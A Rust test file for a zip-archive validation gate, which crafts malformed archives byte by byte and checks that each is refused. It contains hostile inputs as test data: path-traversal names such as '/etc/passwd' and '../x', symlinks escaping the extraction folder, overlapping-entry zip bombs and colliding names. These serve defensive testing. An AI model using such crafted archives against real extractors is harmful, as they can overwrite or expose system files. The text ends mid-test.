//! The strict zip gate, rule by rule, on zips crafted here byte by byte.
//!
//! [`Zip`] and [`E`] write raw zip bytes with a knob for each way to break a rule; every
//! test starts from a well-formed archive (which the `zip` crate also reads) and breaks
//! one thing.

use std::io::{self, Cursor, Read, Write};

use flate2::{Compression, write::DeflateEncoder};
use signer::zipcheck::{self, EntryKind, InspectError, Inspected, Rule, ZipError, ZipLimits};

// ---------------------------------------------------------------------------------------
// The builder.

/// One entry, with knobs.
#[derive(Clone)]
pub(crate) struct E {
    pub(crate) name: Vec<u8>,
    pub(crate) data: Vec<u8>,
    pub(crate) method: u16,
    pub(crate) flags: u16,
    pub(crate) external: u32,
    pub(crate) made_by: u16,
    /// Compressed bytes instead of the encoded data.
    pub(crate) compressed: Option<Vec<u8>>,
    /// Central-directory overrides.
    pub(crate) crc: Option<u32>,
    pub(crate) csize: Option<u64>,
    pub(crate) usize: Option<u64>,
    pub(crate) offset: Option<u64>,
    pub(crate) disk: u16,
    pub(crate) central_extra: Vec<u8>,
    /// Write sizes and offset as ZIP64 in the central directory.
    pub(crate) zip64: bool,
    /// Replaces the ZIP64 extra field data in the central directory.
    pub(crate) zip64_extra: Option<Vec<u8>>,
    /// Local-header overrides.
    pub(crate) local_name: Option<Vec<u8>>,
    pub(crate) local_flags: Option<u16>,
    pub(crate) local_method: Option<u16>,
    pub(crate) local_crc: Option<u32>,
    pub(crate) local_csize: Option<u32>,
    pub(crate) local_usize: Option<u32>,
    pub(crate) local_extra: Vec<u8>,
    /// Sizes in the local header as ZIP64 markers with a 16-byte extra field.
    pub(crate) local_zip64: bool,
    /// Data descriptor: (with signature, its CRC-32 override).
    pub(crate) descriptor: Option<(bool, Option<u32>)>,
    /// Bytes written after the entry (descriptor included).
    pub(crate) after: Vec<u8>,
    /// Write only the central header (the offset must be set): for overlaps.
    pub(crate) no_local: bool,
}

impl E {
    pub(crate) fn stored(name: &str, data: &[u8]) -> Self {
        Self {
            name: name.as_bytes().to_vec(),
            data: data.to_vec(),
            method: 0,
            flags: 0x0800,
            external: 0o100_644 << 16,
            made_by: 0x031e,
            compressed: None,
            crc: None,
            csize: None,
            usize: None,
            offset: None,
            disk: 0,
            central_extra: Vec::new(),
            zip64: false,
            zip64_extra: None,
            local_name: None,
            local_flags: None,
            local_method: None,
            local_crc: None,
            local_csize: None,
            local_usize: None,
            local_extra: Vec::new(),
            local_zip64: false,
            descriptor: None,
            after: Vec::new(),
            no_local: false,
        }
    }

    pub(crate) fn deflated(name: &str, data: &[u8]) -> Self {
        Self { method: 8, ..Self::stored(name, data) }
    }

    pub(crate) fn dir(name: &str) -> Self {
        Self { external: (0o040_755 << 16) | 0x10, ..Self::stored(name, b"") }
    }

    pub(crate) fn symlink(name: &str, target: &str) -> Self {
        Self { external: 0o120_777 << 16, ..Self::stored(name, target.as_bytes()) }
    }

    pub(crate) fn raw_name(mut self, name: &[u8]) -> Self {
        self.name = name.to_vec();
        self
    }

    pub(crate) fn with(mut self, f: impl FnOnce(&mut Self)) -> Self {
        f(&mut self);
        self
    }

    /// An extra field in the local header (`local`) or in the central one.
    pub(crate) fn extra_in(mut self, local: bool, field: Vec<u8>) -> Self {
        if local {
            self.local_extra = field
        } else {
            self.central_extra = field
        }
        self
    }

    /// A data descriptor, with or without its signature; the local header leaves zeros.
    pub(crate) fn streamed(mut self, signature: bool) -> Self {
        self.flags |= 1 << 3;
        self.descriptor = Some((signature, None));
        self
    }

    fn encoded(&self) -> Vec<u8> {
        if let Some(c) = &self.compressed {
            return c.clone();
        }
        match self.method {
            8 => deflate(&self.data),
            _ => self.data.clone(),
        }
    }
}

/// A whole archive, with knobs for the end records.
#[derive(Clone, Default)]
pub(crate) struct Zip {
    pub(crate) entries: Vec<E>,
    pub(crate) prefix: Vec<u8>,
    /// Offsets count the prefix (so the first entry is not at offset 0).
    pub(crate) prefix_counted: bool,
    pub(crate) comment: Vec<u8>,
    /// Declared comment length instead of the real one.
    pub(crate) comment_len: Option<u16>,
    pub(crate) trailing: Vec<u8>,
    /// Write a ZIP64 end record and locator (and markers in the classic record).
    pub(crate) zip64_end: bool,
    /// Changes the ZIP64 end record's entry count.
    pub(crate) zip64_count_delta: u64,
    /// Changes the ZIP64 locator's pointer.
    pub(crate) zip64_locator_delta: i64,
    /// End-record overrides.
    pub(crate) count: Option<u16>,
    pub(crate) cd_size: Option<u32>,
    pub(crate) cd_offset: Option<u32>,
    pub(crate) disk: u16,
    /// Central directory order, as indices into `entries`.
    pub(crate) order: Option<Vec<usize>>,
    /// Bytes between the last entry and the central directory.
    pub(crate) before_cd: Vec<u8>,
}

pub(crate) fn zip(entries: Vec<E>) -> Zip {
    Zip { entries, ..Zip::default() }
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = DeflateEncoder::new(Vec::new(), Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn u16le(v: &mut Vec<u8>, x: u16) {
    v.extend_from_slice(&x.to_le_bytes());
}
fn u32le(v: &mut Vec<u8>, x: u32) {
    v.extend_from_slice(&x.to_le_bytes());
}
fn u64le(v: &mut Vec<u8>, x: u64) {
    v.extend_from_slice(&x.to_le_bytes());
}
fn narrow(x: u64) -> u32 {
    u32::try_from(x).unwrap()
}

/// An extra field: tag, size, data.
pub(crate) fn extra(tag: u16, data: &[u8]) -> Vec<u8> {
    let mut v = Vec::new();
    u16le(&mut v, tag);
    u16le(&mut v, data.len() as u16);
    v.extend_from_slice(data);
    v
}

impl Zip {
    pub(crate) fn with(mut self, f: impl FnOnce(&mut Self)) -> Self {
        f(&mut self);
        self
    }

    pub(crate) fn build(&self) -> Vec<u8> {
        let mut out = self.prefix.clone();
        let base = if self.prefix_counted { 0 } else { out.len() as u64 };
        let mut central: Vec<u8> = Vec::new();
        let order = self.order.clone().unwrap_or_else(|| (0..self.entries.len()).collect());
        let mut headers = vec![Vec::new(); self.entries.len()];
        for (i, e) in self.entries.iter().enumerate() {
            let offset = e.offset.unwrap_or(out.len() as u64 - base);
            let compressed = e.encoded();
            let crc = e.crc.unwrap_or_else(|| crc32fast::hash(&e.data));
            let csize = e.csize.unwrap_or(compressed.len() as u64);
            let usize = e.usize.unwrap_or(e.data.len() as u64);
            let streamed = e.descriptor.is_some();
            let mut l = Vec::new();

            // Local header.
            u32le(&mut l, 0x0403_4b50);
            u16le(&mut l, 20);
            u16le(&mut l, e.local_flags.unwrap_or(e.flags));
            u16le(&mut l, e.local_method.unwrap_or(e.method));
            u32le(&mut l, 0x0021_0000);
            let zero = |x: u32| if streamed { 0 } else { x };
            u32le(&mut l, e.local_crc.unwrap_or(zero(crc)));
            let mut local_extra = e.local_extra.clone();
            if e.local_zip64 {
                u32le(&mut l, u32::MAX);
                u32le(&mut l, u32::MAX);
                let mut z = Vec::new();
                u64le(&mut z, if streamed { 0 } else { usize });
                u64le(&mut z, if streamed { 0 } else { csize });
                local_extra.extend(extra(1, &z));
            } else {
                u32le(&mut l, e.local_csize.unwrap_or(zero(narrow(csize))));
                u32le(&mut l, e.local_usize.unwrap_or(zero(narrow(usize))));
            }
            let local_name = e.local_name.clone().unwrap_or_else(|| e.name.clone());
            u16le(&mut l, local_name.len() as u16);
            u16le(&mut l, local_extra.len() as u16);
            l.extend_from_slice(&local_name);
            l.extend_from_slice(&local_extra);
            l.extend(&compressed);
            if let Some((signature, crc_override)) = e.descriptor {
                if signature {
                    u32le(&mut l, 0x0807_4b50);
                }
                u32le(&mut l, crc_override.unwrap_or(crc));
                if e.local_zip64 {
                    u64le(&mut l, csize);
                    u64le(&mut l, usize);
                } else {
                    u32le(&mut l, narrow(csize));
                    u32le(&mut l, narrow(usize));
                }
            }
            l.extend(&e.after);
            if !e.no_local {
                out.extend(l);
            }

            // Central header.
            let mut c = Vec::new();
            u32le(&mut c, 0x0201_4b50);
            u16le(&mut c, e.made_by);
            u16le(&mut c, 20);
            u16le(&mut c, e.flags);
            u16le(&mut c, e.method);
            u32le(&mut c, 0x0021_0000);
            u32le(&mut c, crc);
            let mut central_extra = e.central_extra.clone();
            if e.zip64 {
                u32le(&mut c, u32::MAX);
                u32le(&mut c, u32::MAX);
                let mut z = Vec::new();
                u64le(&mut z, usize);
                u64le(&mut z, csize);
                u64le(&mut z, offset);
                central_extra.extend(extra(1, e.zip64_extra.as_deref().unwrap_or(&z)));
            } else {
                u32le(&mut c, narrow(csize));
                u32le(&mut c, narrow(usize));
                if let Some(z) = &e.zip64_extra {
                    central_extra.extend(extra(1, z));
                }
            }
            u16le(&mut c, e.name.len() as u16);
            u16le(&mut c, central_extra.len() as u16);
            u16le(&mut c, 0);
            u16le(&mut c, e.disk);
            u16le(&mut c, 0);
            u32le(&mut c, e.external);
            u32le(&mut c, if e.zip64 { u32::MAX } else { narrow(offset) });
            c.extend_from_slice(&e.name);
            c.extend_from_slice(&central_extra);
            headers[i] = c;
        }
        out.extend(&self.before_cd);
        for &i in &order {
            central.extend(&headers[i]);
        }
        let cd_offset = out.len() as u64 - base;
        let cd_size = central.len() as u64;
        out.extend(central);
        let count = order.len() as u64;
        if self.zip64_end {
            let record = out.len() as u64 - base;
            u32le(&mut out, 0x0606_4b50);
            u64le(&mut out, 44);
            u16le(&mut out, 45);
            u16le(&mut out, 45);
            u32le(&mut out, 0);
            u32le(&mut out, 0);
            u64le(&mut out, count + self.zip64_count_delta);
            u64le(&mut out, count + self.zip64_count_delta);
            u64le(&mut out, cd_size);
            u64le(&mut out, cd_offset);
            u32le(&mut out, 0x0706_4b50);
            u32le(&mut out, 0);
            u64le(&mut out, record.wrapping_add_signed(self.zip64_locator_delta));
            u32le(&mut out, 1);
        }
        u32le(&mut out, 0x0605_4b50);
        u16le(&mut out, self.disk);
        u16le(&mut out, self.disk);
        let (count, size, offset) = if self.zip64_end {
            (0xFFFF, u32::MAX, u32::MAX)
        } else {
            (count as u16, narrow(cd_size), narrow(cd_offset))
        };
        u16le(&mut out, self.count.unwrap_or(count));
        u16le(&mut out, self.count.unwrap_or(count));
        u32le(&mut out, self.cd_size.unwrap_or(size));
        u32le(&mut out, self.cd_offset.unwrap_or(offset));
        u16le(&mut out, self.comment_len.unwrap_or(self.comment.len() as u16));
        out.extend(&self.comment);
        out.extend(&self.trailing);
        out
    }
}

// ---------------------------------------------------------------------------------------
// Running the gate.

fn limits() -> ZipLimits {
    ZipLimits::default()
}

fn inspect_with(bytes: &[u8], limits: &ZipLimits) -> Result<Inspected, ZipError> {
    match zipcheck::inspect(&mut Cursor::new(bytes), limits) {
        Ok((_, inspected)) => Ok(inspected),
        Err(InspectError::Zip(e)) => Err(e),
        Err(InspectError::Io(e)) => panic!("I/O error on an in-memory zip: {e}"),
    }
}

fn inspect(bytes: &[u8]) -> Result<Inspected, ZipError> {
    inspect_with(bytes, &limits())
}

/// The refusal of a zip that must be refused.
#[track_caller]
fn refuse(z: &Zip) -> ZipError {
    match inspect(&z.build()) {
        Ok(i) => panic!("accepted: {i:?}"),
        Err(e) => e,
    }
}

#[track_caller]
fn refuse_rule(z: &Zip) -> Rule {
    refuse(z).rule
}

#[track_caller]
fn accept(z: &Zip) -> Inspected {
    let bytes = z.build();
    let inspected = inspect(&bytes).unwrap_or_else(|e| panic!("refused: {e}"));
    // The builder writes what a standard reader reads, entry for entry.
    let mut archive = zip::ZipArchive::new(Cursor::new(&bytes)).unwrap();
    assert_eq!(archive.len() as u64, inspected.entries);
    let mut total = 0;
    for i in 0..archive.len() {
        let mut f = archive.by_index(i).unwrap();
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        total += data.len() as u64;
    }
    assert_eq!(total, inspected.unzipped_size);
    inspected
}

pub(crate) fn sample() -> Vec<E> {
    vec![E::dir("src/"), E::deflated("src/main.py", &b"print('hello')\n".repeat(50)), E::stored("README", b"read me")]
}

// ---------------------------------------------------------------------------------------
// Well-formed zips pass, odd ones included.

#[test]
fn a_plain_zip_passes_with_its_real_sizes() {
    let inspected = accept(&zip(sample()));
    assert_eq!(inspected, Inspected { entries: 3, unzipped_size: 750 + 7 });
}

#[test]
fn the_tail_lists_entries_in_central_order() {
    let bytes = zip(sample()).with(|z| z.order = Some(vec![2, 0, 1])).build();
    let (tail, inspected) = zipcheck::inspect(&mut Cursor::new(&bytes), &limits()).unwrap();
    let names: Vec<_> = tail.entries.iter().map(|e| e.name()).collect();
    assert_eq!(names, ["README", "src/", "src/main.py"]);
    assert_eq!(tail.entries[1].kind, EntryKind::Directory);
    assert_eq!(inspected.entries, 3);
}

#[test]
fn odd_but_well_formed_zips_pass() {
    let cases = [
        ("descriptor with signature", zip(vec![E::deflated("a", b"aaaa").streamed(true), E::stored("b", b"b")])),
        ("descriptor without signature", zip(vec![E::deflated("a", b"aaaa").streamed(false), E::stored("b", b"b")])),
        ("stored with descriptor", zip(vec![E::stored("a", b"abc").streamed(true)])),
        (
            "ZIP64 entry and end records",
            zip(vec![E::stored("a", b"abc").with(|e| e.zip64 = true)]).with(|z| z.zip64_end = true),
        ),
        (
            "ZIP64 local header and descriptor",
            zip(vec![E::deflated("a", b"abc").with(|e| e.local_zip64 = true).streamed(true)]),
        ),
        ("archive comment", zip(sample()).with(|z| z.comment = b"a printable signature block".to_vec())),
        ("empty file and empty dir", zip(vec![E::stored("empty", b""), E::dir("d/")])),
        ("deflated empty directory", zip(vec![E::dir("META-INF/").with(|e| e.method = 8)])),
        (
            "symlink inside",
            zip(vec![
                E::stored("lib/a.so.1", b"elf"),
                E::symlink("lib/a.so", "a.so.1"),
                E::symlink("bin/x", "../lib/a.so"),
            ]),
        ),
        ("deflated symlink", zip(vec![E::stored("t", b"t"), E::symlink("l", "t").with(|e| e.method = 8)])),
        (
            "unknown extra fields",
            zip(vec![E::stored("a", b"a").with(|e| {
                e.local_extra = extra(0x5455, &[3, 1, 2, 3, 4]);
                e.central_extra = extra(0x000a, &[0; 32]);
            })]),
        ),
    ];
    for (what, z) in cases {
        println!("{what}");
        accept(&z);
    }
}

#[test]
fn a_zip_stored_inside_a_zip_is_no_second_end_record() {
    // The inner end record sits in the outer archive's last entry, in the tail window, but
    // its comment does not reach the end of the file: it is data, not a rival end record.
    let inner = zip(sample()).build();
    accept(&zip(vec![E::stored("a.txt", b"a"), E::stored("lib/inner.zip", &inner)]));
}

#[test]
fn names_without_the_utf8_flag_are_read_as_cp437() {
    let z = zip(vec![E::stored("x", b"x").raw_name(b"filename_with_\x91o\x86.txt").with(|e| e.flags = 0)]);
    let (tail, _) = zipcheck::inspect(&mut Cursor::new(z.build()), &limits()).unwrap();
    assert_eq!(tail.entries[0].name(), "filename_with_æoå.txt");
}

// ---------------------------------------------------------------------------------------
// Not a zip, empty, end records.

#[test]
fn not_a_zip() {
    assert_eq!(inspect(b"").unwrap_err().rule, Rule::NotZip);
    assert_eq!(inspect(b"#!/bin/sh\necho hi\n").unwrap_err().rule, Rule::NotZip);
}

#[test]
fn an_empty_zip_is_refused() {
    assert_eq!(refuse_rule(&zip(vec![])), Rule::Empty);
}

#[test]
fn a_comment_hiding_an_end_record_is_ambiguous() {
    let inner = zip(sample()).build();
    let hidden = inner[inner.len() - 22..].to_vec();
    let z = zip(sample()).with(|z| z.comment = hidden);
    assert!(matches!(refuse_rule(&z), Rule::AmbiguousEndRecord { .. }));
}

#[test]
fn a_cut_off_comment_is_malformed() {
    let z = zip(sample()).with(|z| z.comment_len = Some(10));
    assert!(matches!(refuse_rule(&z), Rule::MalformedEndRecord { .. }));
}

#[test]
fn bytes_after_the_end_record_are_refused() {
    let z = zip(sample()).with(|z| z.trailing = b"junk".to_vec());
    assert_eq!(refuse_rule(&z), Rule::BytesAfterEndRecord { len: 4 });
    // A comment length one short of the bytes that follow (Go's readme.zip).
    let z = zip(sample()).with(|z| {
        z.comment = b"abc".to_vec();
        z.comment_len = Some(2);
    });
    assert_eq!(refuse_rule(&z), Rule::BytesAfterEndRecord { len: 1 });
}

#[test]
fn bytes_before_the_first_entry_are_refused() {
    // A prefix with offsets relative to the archive (a self-extractor, a jar launcher).
    let z = zip(sample()).with(|z| z.prefix = b"#!/bin/sh\nexec java -jar $0\n".to_vec());
    assert_eq!(refuse_rule(&z), Rule::BytesBeforeFirstEntry { len: 28 });
    // Offsets that do count the prefix, so the first entry is not at 0.
    let z = zip(sample()).with(|z| {
        z.prefix = vec![0; 38];
        z.prefix_counted = true;
    });
    assert_eq!(refuse_rule(&z), Rule::BytesBeforeFirstEntry { len: 38 });
}

#[test]
fn bytes_between_entries_are_refused() {
    let mut entries = sample();
    entries[1].after = b"hidden".to_vec();
    let z = zip(entries);
    assert!(matches!(refuse_rule(&z), Rule::BytesBetweenEntries { len: 6, .. }));
    // Between the last entry and the central directory.
    let z = zip(sample()).with(|z| z.before_cd = vec![0; 5]);
    assert!(matches!(refuse_rule(&z), Rule::BytesBetweenEntries { len: 5, .. }));
    // After a data descriptor.
    let z = zip(vec![E::stored("a", b"a").streamed(true).with(|e| e.after = vec![0; 3]), E::stored("b", b"b")]);
    assert!(matches!(refuse_rule(&z), Rule::BytesBetweenEntries { len: 3, .. }));
}

#[test]
fn entry_count_and_central_directory_size_must_fit() {
    let z = zip(sample()).with(|z| z.count = Some(2));
    assert_eq!(refuse_rule(&z), Rule::EntryCount { declared: 2, found: 3 });
    let z = zip(sample()).with(|z| z.count = Some(4));
    assert!(matches!(refuse_rule(&z), Rule::EntryCount { declared: 4, .. } | Rule::MalformedCentralDirectory { .. }));
    let z = zip(sample()).with(|z| z.cd_size = Some(40));
    assert!(matches!(refuse_rule(&z), Rule::CentralDirectoryBounds { size: 40, .. }));
    let z = zip(sample()).with(|z| z.cd_size = Some(u32::MAX));
    assert!(matches!(refuse_rule(&z), Rule::CentralDirectoryBounds { .. }));
}

#[test]
fn the_central_directory_is_bounded() {
    let small = ZipLimits { max_central_directory: 100, ..limits() };
    let err = inspect_with(&zip(sample()).build(), &small).unwrap_err();
    assert!(matches!(err.rule, Rule::CentralDirectoryTooLarge { max: 100, .. }));
}

// ---------------------------------------------------------------------------------------
// Overlap: Fifield's bombs and CPython's cases.

#[test]
fn full_overlap_is_refused() {
    // Two central entries, one local header (Fifield's overlap.zip, CPython's overlap-full-*).
    let a = E::deflated("a", &[b'a'; 5000]);
    let b = a.clone().raw_name(b"b").with(|e| {
        e.offset = Some(0);
        e.no_local = true;
    });
    let err = refuse(&zip(vec![a, b]));
    assert_eq!(err.rule, Rule::OverlappingEntries { other: "a".into() }, "{err}");
    assert_eq!(err.entry.as_deref(), Some("b"));
}

#[test]
fn quoted_overlap_is_refused_before_inflating() {
    // Entry a's data "quotes" b's whole local entry, so b's bytes are inflated twice.
    let b = E::stored("b", &[b'b'; 100]);
    let b_local = zip(vec![b.clone()]).build()[..30 + 1 + 100].to_vec();
    let b = b.with(|e| {
        e.offset = Some(30 + 1);
        e.no_local = true;
    });
    let err = refuse(&zip(vec![E::stored("a", &b_local), b]));
    assert_eq!(err.rule, Rule::OverlappingEntries { other: "a".into() }, "{err}");
    assert_eq!(err.entry.as_deref(), Some("b"));
}

#[test]
fn an_entry_in_the_central_directory_is_refused() {
    let z = zip(sample()).with(|z| z.entries[2].offset = Some(10_000));
    assert_eq!(refuse_rule(&z), Rule::OverlapsCentralDirectory);
    // Local header offset = central directory offset (CPython's overlap-with-central-dir).
    let entries = vec![E::stored("a", b"abc")];
    let z = zip(entries).with(|z| z.entries[0].offset = Some(34));
    assert_eq!(refuse_rule(&z), Rule::OverlapsCentralDirectory);
}

#[test]
fn a_descriptor_cannot_overlap_the_next_entry() {
    // Flag bit 3 in the central directory only: the descriptor the flag promises is missing.
    let z = zip(vec![E::stored("a", b"a").with(|e| e.flags |= 8), E::stored("b", b"b")]);
    let rule = refuse_rule(&z);
    assert!(matches!(rule, Rule::OverlappingEntries { .. } | Rule::LocalMismatch { .. }), "{rule:?}");
}

// ---------------------------------------------------------------------------------------
// Local headers must agree with the central directory.

#[test]
fn local_and_central_headers_must_agree() {
    let base = || E::deflated("a.txt", b"some text, some text, some text");
    let cases: Vec<(&str, E)> = vec![
        ("name", base().with(|e| e.local_name = Some(b"b.txt".to_vec()))),
        ("flags", base().with(|e| e.local_flags = Some(0x0802))),
        ("compression method", base().with(|e| e.local_method = Some(0))),
        ("CRC-32", base().with(|e| e.local_crc = Some(1))),
        ("compressed size", base().with(|e| e.local_csize = Some(3))),
        ("uncompressed size", base().with(|e| e.local_usize = Some(3))),
    ];
    for (field, e) in cases {
        let rule = refuse_rule(&zip(vec![e, E::stored("z", b"z")]));
        assert!(matches!(rule, Rule::LocalMismatch { field: f, .. } if f == field), "{field}: {rule:?}");
    }
    // A local name of another length would move the data.
    let e = base().with(|e| e.local_name = Some(b"longer-name.txt".to_vec()));
    assert!(matches!(refuse_rule(&zip(vec![e])), Rule::LocalMismatch { field: "name length", .. }));
}

#[test]
fn a_missing_local_header_is_refused() {
    let mut bytes = zip(sample()).build();
    bytes[0] = b'X';
    assert!(matches!(inspect(&bytes).unwrap_err().rule, Rule::MalformedLocalHeader { offset: 0, .. }));
}

#[test]
fn data_descriptors_must_agree() {
    let z = zip(vec![E::deflated("a", b"aaaa").streamed(true).with(|e| e.descriptor = Some((true, Some(7))))]);
    assert!(matches!(refuse_rule(&z), Rule::DataDescriptor { .. }));
    let z = zip(vec![E::deflated("a", b"aaaa").streamed(false).with(|e| e.descriptor = Some((false, Some(7))))]);
    assert!(matches!(refuse_rule(&z), Rule::DataDescriptor { .. }));
    // 14 bytes is no descriptor length.
    let z = zip(vec![E::deflated("a", b"aaaa").streamed(false).with(|e| e.after = vec![0, 0])]);
    assert!(matches!(refuse_rule(&z), Rule::DataDescriptor { .. }));
    // A 16-byte descriptor without its signature.
    let z = zip(vec![E::deflated("a", b"aaaa").streamed(false).with(|e| e.after = vec![0; 4])]);
    assert!(matches!(refuse_rule(&z), Rule::DataDescriptor { .. }));
    // A local header with the real values is fine too; one with other values is not.
    let z = zip(vec![E::stored("a", b"aaaa").streamed(true).with(|e| e.local_crc = Some(crc32fast::hash(b"aaaa")))]);
    accept(&z);
    let z = zip(vec![E::stored("a", b"aaaa").streamed(true).with(|e| e.local_crc = Some(5))]);
    assert!(matches!(refuse_rule(&z), Rule::LocalMismatch { field: "CRC-32", .. }));
}

// ---------------------------------------------------------------------------------------
// Names.

#[test]
fn duplicate_names_are_refused_even_when_spelled_differently() {
    let entry = |name: &str| if name.ends_with('/') { E::dir(name) } else { E::stored(name, b"x") };
    let pairs = [("a/b", "a/b"), ("a/b", "A/B"), ("a/b", "a//b"), ("a/b", "a/b/"), ("dir/", "DIR/"), ("a/b", "./a/b")];
    for (first, second) in pairs {
        let err = refuse(&zip(vec![entry(first), entry(second)]));
        assert_eq!(err.rule, Rule::DuplicateName { other: first.into() }, "{first} vs {second}");
        assert_eq!(err.entry.as_deref(), Some(second));
    }
}

#[test]
fn an_entry_under_a_file_or_symlink_is_refused() {
    let z = zip(vec![E::stored("a", b"file"), E::stored("a/b", b"under a file")]);
    assert_eq!(refuse_rule(&z), Rule::FileUsedAsDirectory { file: "a".into() });
    let z = zip(vec![E::symlink("lib", "."), E::stored("lib/x", b"written through the link")]);
    assert_eq!(refuse_rule(&z), Rule::FileUsedAsDirectory { file: "lib".into() });
    accept(&zip(vec![
        E::dir("a/"),
        E::stored("a/b", b"fine"),
        E::stored("a.txt", b"fine"),
        E::stored("a-b/c", b"fine"),
    ]));
}

#[test]
fn unsafe_names_are_refused() {
    let cases: Vec<(&[u8], u16, Rule)> = vec![
        (b"/etc/passwd", 0x0800, Rule::AbsolutePath),
        (b"a/../../b", 0x0800, Rule::DotDot),
        (b"../x", 0x0800, Rule::DotDot),
        (b"a\\b", 0x0800, Rule::Backslash),
        (b"C:/Windows/x", 0x0800, Rule::DriveLetter),
        (b"a\0.txt", 0x0800, Rule::ControlCharacter { code: 0 }),
        (b"a\x1b[31m", 0x0800, Rule::ControlCharacter { code: 0x1b }),
        (b"caf\xe9", 0x0800, Rule::InvalidUtf8),
        (b"", 0x0800, Rule::EmptyName),
        (b"././", 0x0800, Rule::EmptyName),
    ];
    for (name, flags, rule) in cases {
        let z = zip(vec![E::stored("x", b"x").raw_name(name).with(|e| e.flags = flags)]);
        assert_eq!(refuse_rule(&z), rule, "{name:?}");
    }
    // Without the UTF-8 flag, the same bytes are CP437 and fine.
    accept(&zip(vec![E::stored("x", b"x").raw_name(b"caf\xe9").with(|e| e.flags = 0)]));
}

/// A name not flagged UTF-8 whose bytes are valid UTF-8 reads two ways: CP437 (Python,
/// Windows) and UTF-8 (the zip crate, Info-ZIP and libarchive on UTF-8 systems). Two
/// entries that are one path in either reading are refused (found by the zip_differential
/// fuzzer: the zip crate read such a name as UTF-8).
#[test]
fn names_that_collide_in_either_reading_are_refused() {
    let utf8 = "caf\u{e9}.txt".as_bytes();
    let z = zip(vec![
        E::stored("x", b"flagged").raw_name(utf8).with(|e| e.flags = 0x0800),
        E::stored("y", b"unflagged, the same bytes").raw_name(utf8).with(|e| e.flags = 0),
    ]);
    assert!(matches!(refuse_rule(&z), Rule::DuplicateName { .. }), "one path to UTF-8 readers");
    // And two that are one path to CP437 readers only: distinct bytes can't be, so a
    // flagged UTF-8 name and an unflagged one that spells it in CP437.
    let cp437 = b"caf\x82.txt"; // 0x82 is é in CP437
    let z = zip(vec![
        E::stored("x", b"flagged").raw_name(utf8).with(|e| e.flags = 0x0800),
        E::stored("y", b"cp437").raw_name(cp437).with(|e| e.flags = 0),
    ]);
    assert!(matches!(refuse_rule(&z), Rule::DuplicateName { .. }), "one path to CP437 readers");
    // Distinct in both readings: fine.
    accept(&zip(vec![
        E::stored("x", b"flagged").raw_name(utf8).with(|e| e.flags = 0x0800),
        E::stored("y", b"other").raw_name("caf\u{e8}.txt".as_bytes()).with(|e| e.flags = 0),
    ]));
}

#[test]
fn the_refusal_names_the_entry_the_rule_and_the_fix() {
    let err = refuse(&zip(vec![E::stored("a/../b", b"x")]));
    assert_eq!(
        err.to_string(),
        "entry \"a/../b\": path contains \"..\" (refused: it could write outside the extraction folder); \
         rebuild the zip without it [zip rule dot-dot]"
    );
    assert_eq!(err.rule().id(), "dot-dot");
    // Control characters in names are escaped in messages.
    let err = refuse(&zip(vec![E::stored("x", b"x").raw_name(b"a\x1b[2J")]));
    assert!(err.to_string().starts_with("entry \"a\\u{1b}[2J\": name contains the control character U+001B"));
}

#[test]
fn long_names_and_many_entries_are_bounded() {
    let long = "n".repeat(1025);
    assert_eq!(refuse_rule(&zip(vec![E::stored(&long, b"x")])), Rule::NameTooLong { len: 1025, max: 1024 });
    let few = ZipLimits { max_entries: 2, ..limits() };
    let err = inspect_with(&zip(sample()).build(), &few).unwrap_err();
    assert_eq!(err.rule, Rule::TooManyEntries { count: 3, max: 2 });
    // A huge declared count is refused before anything is allocated for it (CVE-2021-33196).
    let z = zip(sample()).with(|z| z.zip64_end = true).with(|z| z.zip64_count_delta = u64::MAX / 2);
    assert!(matches!(refuse_rule(&z), Rule::TooManyEntries { .. }));
}

#[test]
fn a_unicode_path_field_must_name_the_same_file() {
    let field = |name: &[u8], crc: u32| {
        let mut d = vec![1];
        d.extend_from_slice(&crc.to_le_bytes());
        d.extend_from_slice(name);
        extra(0x7075, &d)
    };
    let crc = crc32fast::hash(b"safe.txt");
    let z = zip(vec![E::stored("safe.txt", b"x").with(|e| e.central_extra = field(b"../evil", crc))]);
    assert_eq!(refuse_rule(&z), Rule::UnicodePathMismatch);
    let z = zip(vec![E::stored("safe.txt", b"x").with(|e| e.local_extra = field(b"../evil", crc))]);
    assert_eq!(refuse_rule(&z), Rule::UnicodePathMismatch);
    accept(&zip(vec![E::stored("safe.txt", b"x").with(|e| e.central_extra = field(b"safe.txt", crc))]));
}

// ---------------------------------------------------------------------------------------
// Symlinks.

#[test]
fn symlinks_pointing_outside_are_refused() {
    for (link, target) in
        [("l", "/etc/passwd"), ("l", "../x"), ("a/b/l", "../../../x"), ("l", "x/../../y"), ("l", "d/..")]
    {
        let z = zip(vec![E::symlink(link, target)]);
        assert_eq!(refuse_rule(&z), Rule::SymlinkOutside { target: target.into() }, "{link} -> {target}");
    }
    // Deflated targets are inflated first.
    let z = zip(vec![E::symlink("l", "../../etc").with(|e| e.method = 8)]);
    assert!(matches!(refuse_rule(&z), Rule::SymlinkOutside { .. }));
    // 7-Zip style, a Unix mode on a FAT host: 7-Zip makes a symlink, Info-ZIP a file.
    let z = zip(vec![E::symlink("l", "/").with(|e| e.made_by = 0x003f)]);
    assert!(matches!(refuse_rule(&z), Rule::FileType { .. }));
}

#[test]
fn malformed_symlink_targets_are_refused() {
    for target in [&b""[..], b"a\0b", b"\xff\xfe", b"a\\..\\..\\x"] {
        let z = zip(vec![E::symlink("l", "x").with(|e| e.data = target.to_vec())]);
        assert!(matches!(refuse_rule(&z), Rule::BadSymlinkTarget { .. }), "{target:?}");
    }
    let z = zip(vec![E::symlink("l", &"a/".repeat(3000))]);
    assert!(matches!(refuse_rule(&z), Rule::BadSymlinkTarget { .. }));
}

// ---------------------------------------------------------------------------------------
// Encryption, disks, methods, flags.

#[test]
fn encryption_is_refused() {
    for flags in [1u16, 1 | (1 << 6), 1 << 13] {
        let z = zip(vec![E::stored("a", b"x").with(|e| e.flags = flags)]);
        assert_eq!(refuse_rule(&z), Rule::Encrypted, "flags {flags:#x}");
    }
    let z = zip(vec![E::stored("a", b"x").with(|e| e.method = 99)]);
    assert_eq!(refuse_rule(&z), Rule::Encrypted);
    let z = zip(vec![E::stored("a", b"x").with(|e| e.central_extra = extra(0x9901, &[2, 0, b'A', b'E', 3, 8, 0]))]);
    assert_eq!(refuse_rule(&z), Rule::Encrypted);
}

#[test]
fn multi_disk_archives_are_refused() {
    assert_eq!(refuse_rule(&zip(sample()).with(|z| z.disk = 1)), Rule::MultiDisk);
